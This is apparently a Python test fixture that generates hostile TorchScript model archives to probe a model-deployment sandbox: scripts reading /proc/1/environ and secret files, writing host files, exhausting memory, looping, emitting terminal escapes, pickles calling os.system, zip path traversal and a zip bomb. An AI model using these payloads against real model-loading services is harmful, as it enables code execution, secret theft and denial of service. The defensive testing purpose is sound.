"""Hostile TorchScript: programs that do more than they should, and archives that are not what they seem."""

from __future__ import annotations

import io
import os
import pickle
import random
import struct
import zipfile
from pathlib import Path
from typing import Any

from ..declared import HARMLESS, Aim, hostile
from .truth import WEIGHTS

ENTRY = "model.pt"

# Computed from the input's size: TorchScript cannot read the constants that it would make of control characters.
ESC, BELL, RETURN = (f"chr(x.numel() + {code - 4})" for code in (27, 7, 13))
ESCAPES = f"{ESC} + ']0;owned' + {BELL} + {ESC} + '[2J<script>alert(1)</script>' + {RETURN} + '::error::owned'"

READ = """
    s = ""
    for byte in torch.from_file({path!r}, False, {size}, dtype=torch.uint8):
        s += chr(int(byte))
    print(s)
"""


def honest(out: Path, aim: Aim) -> None:
    scripted("").save(str(out / ENTRY))


def scripted(before: str, methods: str = "") -> Any:
    """A scripted module y = x @ W whose forward() does `before` first; lines are indented by four."""
    import torch

    class Model(torch.jit.ScriptModule):
        def __init__(self) -> None:
            super().__init__()
            self.weights = torch.nn.Parameter(torch.tensor(WEIGHTS))

    module = Model()
    module.define(f"{methods}\ndef forward(self, x):\n    y = x @ self.weights\n{before}\n    return y\n")
    return module


def save(out: Path, before: str, methods: str = "") -> None:
    scripted(before, methods).save(str(out / ENTRY))


@hostile("aten::save writes a host file", outcomes=HARMLESS)
def saves_to_host(out: Path, aim: Aim) -> None:
    save(out, f"    torch.save(x, {str(aim.write / 'torchscript')!r})")


@hostile("aten::save writes beside its own artifact", outcomes=HARMLESS)
def saves_to_inputs(out: Path, aim: Aim) -> None:
    save(out, "    torch.save(x, '/deploymatrix/artifacts/planted')")


@hostile("aten::save fills the working folder of its task", outcomes=HARMLESS, processes=False)
def saves_beside_outputs(out: Path, aim: Aim) -> None:
    save(out, "    torch.save(x, 'planted.npy')\n    torch.save(x, '/tmp/planted.npy')")


@hostile("from_file reads a host file and prints it", outcomes=HARMLESS)
def reads_host(out: Path, aim: Aim) -> None:
    save(out, READ.format(path=str(aim.secret), size=len(aim.token)))


@hostile("from_file writes a host file through a shared mapping", outcomes=HARMLESS)
def maps_host(out: Path, aim: Aim) -> None:
    path = str(aim.write / "torchscript-mapped")
    save(out, f"    t = torch.from_file({path!r}, True, 64, dtype=torch.uint8)\n    t.fill_(65)")


@hostile("from_file reads the memory of its server", outcomes=HARMLESS)
def reads_memory(out: Path, aim: Aim) -> None:
    save(out, READ.format(path="/proc/1/environ", size=16))


@hostile("allocates 1 PiB")
def allocates(out: Path, aim: Aim) -> None:
    save(out, "    y = y + torch.zeros([1 << 48]).sum()")


@hostile("allocates until it is stopped")
def hoards(out: Path, aim: Aim) -> None:
    hoarding = "hoard = [y]\n    while bool(y.numel() > 0):\n        hoard.append(torch.ones([1 << 24]))"
    save(out, f"    {hoarding}\n        y = y + hoard[-1][0] * 0")


@hostile("never ends")
def loops(out: Path, aim: Aim) -> None:
    save(out, "    while bool(y.numel() > 0):\n        y = y * 1.0")


@hostile("prints 200 MB", outcomes=HARMLESS)
def floods(out: Path, aim: Aim) -> None:
    save(
        out, "    s = 'flood'\n    for i in range(14):\n        s = s + s\n    for i in range(2500):\n        print(s)"
    )


@hostile("prints terminal escapes and control characters", outcomes=HARMLESS)
def escapes(out: Path, aim: Aim) -> None:
    save(out, f"    print({ESCAPES})")


@hostile("raises with terminal escapes in the message")
def raises_escapes(out: Path, aim: Aim) -> None:
    save(out, f"    raise RuntimeError({ESCAPES})")


@hostile("nests 20,000 expressions")
def nests(out: Path, aim: Aim) -> None:
    deep = "y" + " + y" * 300
    save(out, f"    y = ({deep}) * 0 + y" + f"\n    y = ({deep}) * 0 + x" * 60)


@hostile("an archive member that unpickles os.system")
def unpickles(out: Path, aim: Aim) -> None:
    rewritten(out, aim, lambda name, data: command(aim) if name.endswith("data.pkl") else data)


@hostile("a plain pickle of os.system named model.pt")
def is_a_pickle(out: Path, aim: Aim) -> None:
    (out / ENTRY).write_bytes(command(aim))


@hostile("constants that unpickle os.system", outcomes=HARMLESS)
def unpickles_constants(out: Path, aim: Aim) -> None:
    rewritten(out, aim, lambda name, data: command(aim) if name.endswith("constants.pkl") else data)


@hostile("an archive with members named ../ and absolute", outcomes=HARMLESS)
def climbs(out: Path, aim: Aim) -> None:
    honest(out, aim)
    with zipfile.ZipFile(out / ENTRY, "a") as archive:
        archive.writestr(f"..{aim.write}/zip", "x")
        archive.writestr(f"{aim.write}/zip", "x")
        archive.writestr("model/../../../planted", "x")


@hostile("a zip bomb: a tensor of 4 GiB that is packed in 4 MB")
def bombs(out: Path, aim: Aim) -> None:
    with zipfile.ZipFile(out / ENTRY, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members(out, aim).items():
            if not name.endswith("data/0"):
                archive.writestr(name, data)
        with archive.open("model/data/0", "w", force_zip64=True) as member:
            for _ in range(512):
                member.write(bytes(1 << 20))


@hostile("an archive whose directory lies about a member's size")
def lies_about_size(out: Path, aim: Aim) -> None:
    honest(out, aim)
    data = bytearray((out / ENTRY).read_bytes())
    at = data.find(b"PK\x01\x02")
    data[at + 20 : at + 28] = struct.pack("<II", 0xFFFFFFF0, 0xFFFFFFF0)
    (out / ENTRY).write_bytes(data)


@hostile("an archive cut in half")
def is_cut(out: Path, aim: Aim) -> None:
    honest(out, aim)
    data = (out / ENTRY).read_bytes()
    (out / ENTRY).write_bytes(data[: len(data) // 2])


@hostile("an archive with 200 flipped bits")
def is_flipped(out: Path, aim: Aim) -> None:
    honest(out, aim)
    data, drawn = bytearray((out / ENTRY).read_bytes()), random.Random(9)
    for _ in range(200):
        data[drawn.randrange(len(data))] ^= 1 << drawn.randrange(8)
    (out / ENTRY).write_bytes(data)


def rewritten(out: Path, aim: Aim, change: Any) -> None:
    packed = members(out, aim)
    with zipfile.ZipFile(out / ENTRY, "w", zipfile.ZIP_STORED) as archive:
        for name, data in packed.items():
            archive.writestr(name, change(name, data))


def members(out: Path, aim: Aim) -> dict[str, bytes]:
    honest(out, aim)
    with zipfile.ZipFile(io.BytesIO((out / ENTRY).read_bytes())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def command(aim: Aim) -> bytes:
    """A pickle that runs a shell, were it unpickled by Python."""

    class Evil:
        def __reduce__(self) -> tuple[Any, ...]:
            return os.system, (f"id > {aim.write / 'pickle'}",)

    return pickle.dumps(Evil(), protocol=2)
